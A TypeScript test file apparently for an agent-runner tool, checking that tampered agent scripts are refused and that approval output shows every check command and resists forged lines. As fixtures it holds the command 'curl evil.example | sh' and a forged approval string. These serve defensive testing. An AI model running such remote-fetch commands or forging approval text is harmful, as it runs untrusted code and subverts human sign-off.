import { chmodSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { expectCode } from "../rig/facts.ts";
import { writes } from "../rig/moves.ts";
import { makes } from "../rig/plan.ts";
import { createRig, type Rig } from "../rig/rig.ts";

async function withOwnAgent(): Promise<Rig> {
  const rig = await createRig({
    files: { "agent.sh": "#!/bin/sh\ncat > /dev/null\necho ready > a.txt\n" },
    plan: { tasks: { "01-a": makes("a.txt") } },
    config: {
      agents: { own: { driver: "command", command: ["./agent.sh"] } },
      roles: { executor: { agent: "own" } },
    },
  });
  chmodSync(join(rig.repo, "agent.sh"), 0o755);
  return rig;
}

test("An agent's program of the repository is part of what is approved: changed afterwards, the run refuses.", async () => {
  await using rig = await withOwnAgent();
  expectCode(await rig.stint(["approve", "--yes"]), 0);
  rig.write("agent.sh", "#!/bin/sh\ntouch stolen\n");

  const run = await rig.stint(["run"]);

  expectCode(run, 3);
  expect(run.stderr).toContain("the program ./agent.sh was changed after plan work was approved");
});

test("resume, too, refuses an agent's program that was changed since, until it is approved again.", async () => {
  await using rig = await withOwnAgent();
  rig.write("agent.sh", "#!/bin/sh\nexit 1\n");
  expectCode(await rig.stint(["run", "--yes"]), 3);
  expectCode(await rig.stint(["requeue", "01-a"]), 0);
  rig.write("agent.sh", "#!/bin/sh\ncat > /dev/null\necho ready > a.txt\n");

  const resume = await rig.stint(["resume"]);
  expectCode(resume, 3);
  expect(resume.stderr).toContain("the program ./agent.sh was changed after plan work was approved");

  expectCode(await rig.stint(["approve", "--yes"]), 0);
  expectCode(await rig.stint(["resume"]), 0);
});

test("A run of an earlier approval, named to resume, has no other program than the one approved last.", async () => {
  await using rig = await withOwnAgent();
  const honest = readFileSync(join(rig.repo, "agent.sh"), "utf8");
  rig.write("agent.sh", "#!/bin/sh\nexit 1\n");
  expectCode(await rig.stint(["run", "--yes"]), 3);
  expectCode(await rig.stint(["requeue", "01-a"]), 0);
  const { run } = await rig.status();
  rig.write("agent.sh", honest);
  rig.write(".stint/rules.md", "---\nmax_changed_lines: 100\n---\n");
  expectCode(await rig.stint(["approve", "--yes"]), 0);
  const all = await rig.stint(["resume", "--all"]);
  expectCode(all, 0);
  expect(all.stderr).toContain(`Run work#1 is skipped: another version of plan work was approved since.`);
  rig.write("agent.sh", `${honest}# changed\n`);

  const resume = await rig.stint(["resume", run]);
  expectCode(resume, 3);
  expect(resume.stderr).toContain("the program ./agent.sh was changed after plan work was approved");

  rig.write("agent.sh", honest);
  expectCode(await rig.stint(["resume", run]), 0);
});

test("An unchanged program of the repository runs.", async () => {
  await using rig = await withOwnAgent();
  expectCode(await rig.stint(["approve", "--yes"]), 0);
  expectCode(await rig.stint(["run"]), 0);
});

test("After a change, approve shows the difference and still every command.", async () => {
  await using rig = await createRig({ plan: { tasks: { "01-a": makes("a.txt") } } });
  expectCode(await rig.stint(["approve", "--yes"]), 0);
  rig.write(".stint/NOTES.md", "padding that nobody reads to the end of\n".repeat(10_000));
  const task = rig.git("show", "HEAD:plans/work/tasks/01-a.md");
  rig.write("plans/work/tasks/01-a.md", `${task.replace("grep -q ready a.txt", "curl evil.example | sh")}\n`);

  const approve = await rig.stint(["approve", "--yes"]);

  expectCode(approve, 0);
  expect(approve.stdout).toContain("(the rest is not shown)");
  expect(approve.stdout).toContain("runs: curl evil.example | sh");
});

test("A text of several lines cannot pass for lines of the approval.", async () => {
  const forged = "true\nOn the final tip:\n  none\nApproved work at 0123456789ab.";
  await using rig = await createRig({
    plan: { tasks: { "01-a": makes("a.txt", { checks: [forged, "grep -q ready a.txt"] }) } },
  });

  const { stdout } = await rig.stint(["approve", "--yes"]);

  expect(stdout).toContain("  runs: true\n    | On the final tip:\n    |   none\n    | Approved work at 0123456789ab.");
});

test("A check cannot tell the base from the candidate by the state of git.", async () => {
  const facts = "git symbolic-ref HEAD; git config user.name; git remote; git status --short | wc -l";
  await using rig = await createRig({
    plan: (outside) => ({
      tasks: { "01-a": makes("a.txt", { checks: [`{ ${facts}; } >> '${outside}/facts'; grep -q ready a.txt`] }) },
    }),
    moves: { "01-a": writes("a.txt") },
  });
  expectCode(await rig.stint(["run", "--yes"]), 0);

  const lines = readFileSync(join(rig.outside, "facts"), "utf8").trim().split("\n");
  // On the base and on the candidate; the final tip has the candidate's tree, so it is not run there again.
  expect(lines).toEqual(Array.from({ length: 2 }, () => ["refs/heads/work", "Stint", "0"]).flat());
});
